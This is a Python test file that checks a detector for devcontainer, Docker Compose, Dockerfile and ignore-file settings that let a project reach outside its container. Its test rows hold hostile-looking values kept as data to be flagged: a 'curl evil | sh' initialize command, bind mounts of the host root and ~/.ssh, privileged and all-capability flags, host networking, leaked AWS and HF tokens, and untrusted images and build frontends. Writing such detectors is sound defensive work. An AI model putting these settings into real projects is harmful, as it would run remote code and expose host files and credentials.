"""What the project's own files reach outside the container: situations, a row each."""

import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scaffold.workspace.reach.compose import compose_reaches, dockerfiles, other_files
from scaffold.workspace.reach.config import (
    answers_reach,
    config_reaches,
    dockerfile_reaches,
    ignore_reaches,
)

REACHES = [
    ("a command of this computer", {"initializeCommand": "curl evil | sh"}),
    ("commands as a table", {"initializeCommand": {"a": ["sh", "-c", "x"]}}),
    ("a bind mount", {"mounts": ["type=bind,source=/,target=/h"]}),
    ("a bind mount as a table", {"mounts": [{"type": "bind", "source": "/", "target": "/h"}]}),
    ("a home folder", {"mounts": ["source=${localEnv:HOME}/.ssh,target=/s,type=bind"]}),
    ("a mount without its type", {"mounts": ["source=/etc,target=/e"]}),
    (
        "a way up from the project",
        {"mounts": ["type=bind,src=${localWorkspaceFolder}/../x,dst=/x"]},
    ),
    (
        "a volume that is a folder",
        {"mounts": ["type=volume,source=v,target=/v,volume-opt=device=/"]},
    ),
    ("the workspace elsewhere", {"workspaceMount": "type=bind,source=/srv,target=/w"}),
    ("full rights", {"privileged": True}),
    ("full rights as an option", {"runArgs": ["--privileged"]}),
    ("a capability", {"capAdd": ["SYS_ADMIN"]}),
    ("a capability as an option", {"runArgs": ["--cap-add=ALL"]}),
    ("a capability as two words", {"runArgs": ["--cap-add", "ALL"]}),
    ("no seccomp", {"securityOpt": ["seccomp=unconfined"]}),
    ("a device", {"runArgs": ["--device=/dev/sda"]}),
    ("a short volume", {"runArgs": ["-v", "/:/host"]}),
    ("a glued volume", {"runArgs": ["-v/:/host"]}),
    ("a long volume", {"runArgs": ["--volume=~/.aws:/aws"]}),
    ("a mount option", {"runArgs": ["--mount", "type=bind,source=/,target=/h"]}),
    ("the host's network", {"runArgs": ["--network=host"]}),
    ("the host's processes", {"runArgs": ["--pid=host"]}),
    ("an extra host", {"runArgs": ["--add-host", "pypi.org:192.0.2.1"]}),
    ("a port", {"runArgs": ["-p8080:80"]}),
    ("a port of the application", {"appPort": [3000]}),
    ("a file of variables", {"runArgs": ["--env-file=/etc/secrets"]}),
    ("a variable of this computer", {"containerEnv": {"T": "${localEnv:AWS_SECRET_ACCESS_KEY}"}}),
    ("a build outside", {"build": {"dockerfile": "../../x/Dockerfile"}}),
    ("a context outside", {"build": {"context": "../.."}}),
    ("a context by its path", {"build": {"context": "/"}}),
    ("an ssh agent in the build", {"build": {"options": ["--ssh=default"]}}),
    ("a Feature of anybody", {"features": {"ghcr.io/evil/features/x:1": {}}}),
    ("a compose file outside", {"dockerComposeFile": "../../compose.yml"}),
    ("a mount in capitals", {"mounts": ["TYPE=BIND,SRC=/,DST=/h"]}),
    ("a mount option in capitals", {"runArgs": ["--mount=Type=Bind,Source=/,Target=/h"]}),
    ("short options in one word", {"runArgs": ["-itv/:/host"]}),
    ("short options and the next word", {"runArgs": ["-itdv", "/:/host"]}),
    ("a short option with an equals sign", {"runArgs": ["-v=/:/host"]}),
    ("a variable without a value", {"runArgs": ["--env", "AWS_SECRET_ACCESS_KEY"]}),
    ("a short variable without a value", {"runArgs": ["-eAWS_SECRET_ACCESS_KEY"]}),
    ("a build argument without a value", {"build": {"options": ["--build-arg=HF_TOKEN"]}}),
    ("a Dockerfile outside as an option", {"build": {"options": ["--file=/etc/passwd"]}}),
    ("a name of another image", {"build": {"options": ["--tag=python:3.12"]}}),
    ("a file that the build writes", {"build": {"options": ["--iidfile=/root/.bashrc"]}}),
    ("the engine's socket as an option", {"runArgs": ["--use-api-socket"]}),
    ("an option that nobody here knows", {"runArgs": ["--brand-new=1"]}),
    ("a log driver", {"runArgs": ["--log-driver=syslog"]}),
    ("an image of anybody", {"image": "evil/base:1"}),
    ("an image of an unknown registry", {"image": "registry.example.org/x:1"}),
    ("a frontend as an argument", {"build": {"args": {"BUILDKIT_SYNTAX": "evil/frontend"}}}),
]

STAYS = [
    ("an image", {"image": "debian:12"}),
    ("an image of a known publisher", {"image": "mcr.microsoft.com/devcontainers/python:3.12"}),
    ("an image by its digest", {"image": "nvidia/cuda:12.8@sha256:0a"}),
    ("a volume", {"mounts": ["type=volume,source=cache,target=/cache"]}),
    ("a temporary file system", {"mounts": ["type=tmpfs,target=/tmp"]}),
    ("limits and names", {"runArgs": ["--memory=8g", "--cpus", "4", "-h", "box", "--name=x"]}),
    ("a variable with its value", {"runArgs": ["-e", "A=1", "--env=B=2", "-it"]}),
    (
        "a folder of the project",
        {"mounts": ["type=bind,source=${localWorkspaceFolder}/d,target=/d"]},
    ),
    ("all GPUs", {"runArgs": ["--gpus=all", "--shm-size=8g", "--name", "x"]}),
    ("a GPU by CDI", {"runArgs": ["--device=nvidia.com/gpu=all"]}),
    ("no network", {"runArgs": ["--network=none"]}),
    ("usual limits", {"runArgs": ["--ulimit=memlock=-1", "--ipc=private"]}),
    ("the project as context", {"build": {"context": "..", "dockerfile": "Dockerfile"}}),
    ("an official Feature", {"features": {"ghcr.io/devcontainers/features/node:1": {}}}),
    ("a command in the container", {"postCreateCommand": "pip install -e ."}),
    ("nothing", {}),
    ("nonsense", {"mounts": None, "runArgs": 3, "build": [], "features": "x", "appPort": None}),
]


@pytest.mark.parametrize(("_title", "config"), REACHES, ids=[row[0] for row in REACHES])
def test_what_reaches_outside_is_listed(_title, config):
    assert list(config_reaches(config))


@pytest.mark.parametrize(("_title", "config"), STAYS, ids=[row[0] for row in STAYS])
def test_what_stays_inside_is_not(_title, config):
    assert list(config_reaches(config)) == []


COMPOSE = [
    ({"volumes": ["/:/host"]}, True),
    ({"volumes": ["../../x:/x"]}, True),
    ({"volumes": [{"type": "bind", "source": "~/.ssh", "target": "/s"}]}, True),
    ({"volumes": ["..:/workspace:cached", "data:/data"]}, False),
    ({"privileged": True}, True),
    ({"privileged": False}, False),
    ({"cap_add": ["SYS_PTRACE"]}, True),
    ({"network_mode": "host"}, True),
    ({"network_mode": "bridge"}, False),
    ({"devices": ["/dev/sda"]}, True),
    ({"ports": ["80:80"]}, True),
    ({"build": {"context": "..", "ssh": ["default"]}}, True),
    ({"build": "../.."}, True),
    ({"build": ".."}, False),
    ({"extends": {"file": "/etc/x.yml", "service": "a"}}, True),
    ({"env_file": "/etc/x"}, True),
    ({"image": "x", "command": "sleep 1"}, False),
    ({"image": "evil/x"}, True),
    ({"restart": "always"}, True),
    ({"restart": "no"}, False),
    ({"environment": ["HF_TOKEN"]}, True),
    ({"environment": {"HF_TOKEN": None}}, True),
    ({"environment": {"A": "${AWS_SECRET_ACCESS_KEY:-}"}}, True),
    ({"environment": {"A": "$$B", "C": "${HOME}"}}, False),
    ({"build": {"context": "..", "dockerfile": "../../x"}}, True),
    ({"build": {"dockerfile_inline": "FROM evil/x"}}, True),
    ({"build": {"args": ["BUILDKIT_SYNTAX=evil/x"]}}, True),
    ({"a_key_of_the_future": [1]}, True),
    ({"x-note": "ours", "deploy": {"resources": {}}}, False),
    ({"devices": [{datetime.date(2001, 1, 1): 1}]}, True),
]


@pytest.mark.parametrize(("service", "reaches"), COMPOSE)
def test_services_of_a_compose_file_are_judged_alike(service, reaches):
    assert bool(list(compose_reaches({"services": {"app": service}}))) is reaches


@pytest.mark.parametrize(
    "document",
    [
        {"include": ["/etc/x.yml"]},
        {"volumes": {"v": {"driver_opts": {"device": "/", "o": "bind"}}}},
        {"secrets": {"s": {"file": "~/.ssh/id_ed25519"}}},
        {"volumes": {"v": {"external": True}}},
        {"networks": {"n": {"name": "bridge-of-another", "external": True}}},
        {"models": {"m": {}}},
    ],
)
def test_other_parts_of_a_compose_file_are_judged_too(document):
    assert list(compose_reaches(document))


def test_the_files_of_a_compose_file_are_named():
    build = {"context": "..", "dockerfile": "D"}
    services = {"a": {"extends": {"file": "b.yml"}, "build": build}, "b": {"build": "x"}, "c": 1}
    document = {"include": ["c.yml", {"path": ["d.yml", 5]}], "services": services}
    assert list(other_files(document)) == ["c.yml", "d.yml", "b.yml"]
    assert list(dockerfiles(document)) == [("..", "D"), ("x", "Dockerfile")]
    assert list(other_files([])) == list(dockerfiles(None)) == []


@pytest.mark.parametrize("document", [None, [], "x", {"services": []}, {"services": {"a": 1}}])
def test_what_is_no_compose_file_reaches_nothing(document):
    assert list(compose_reaches(document)) == []


def test_a_dockerfile_with_a_frontend_or_rights_of_its_own_is_listed():
    text = "# syntax=evil/frontend\nRUN --mount=type=ssh --network=host x\n"
    assert len(list(dockerfile_reaches(text))) == 3
    assert list(dockerfile_reaches("# syntax=docker/dockerfile:1\nFROM x\n")) == []


@pytest.mark.parametrize(
    "content",
    [
        "# a=1\n" * 9 + "# syntax=evil/frontend\nFROM x",
        "// syntax=evil/frontend\nFROM x",
        '{"syntax": "evil/frontend"}',
        "\ufeffFROM evil/x",
        "\x0b from\t--platform=linux/amd64\x0cevil/x AS y",
        "ARG B=evil/x\nFROM ${B}",
        "RUN --mount=id=a,Type=SSH x",
        'RUN --mount=target=/x,type="secret" x',
    ],
)
def test_a_dockerfile_cannot_hide_what_it_asks_for(content):
    assert list(dockerfile_reaches(content))


def test_images_of_known_publishers_are_not_listed():
    text = "FROM python:3.12 AS a\nFROM mcr.microsoft.com/devcontainers/base:${V}\nFROM a\n"
    assert list(dockerfile_reaches(text)) == []


def test_answers_name_mounts_mirrors_servers():
    answers = {
        "mount": ["/:/h", "v:/v"],
        "mirror": ["pip=https://m"],
        "host": "gpu01",
        "shm": "host",
    }
    assert len(list(answers_reach(answers))) == 4
    assert list(answers_reach({"host": "local", "name": "x"})) == []


def test_lines_that_upload_what_is_ignored_are_listed():
    assert [text for _, text in ignore_reaches("!.env\n# x\ndata/\n")] == ["!.env"]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=10,
)
KEYS = st.sampled_from(
    ["initializeCommand", "mounts", "runArgs", "build", "features", "capAdd", "workspaceMount"]
)


@given(st.dictionaries(KEYS, JSON))
def test_no_configuration_raises(config):
    list(config_reaches(config))
    list(compose_reaches({"services": {"a": config}, **config}))
    list(answers_reach(config))
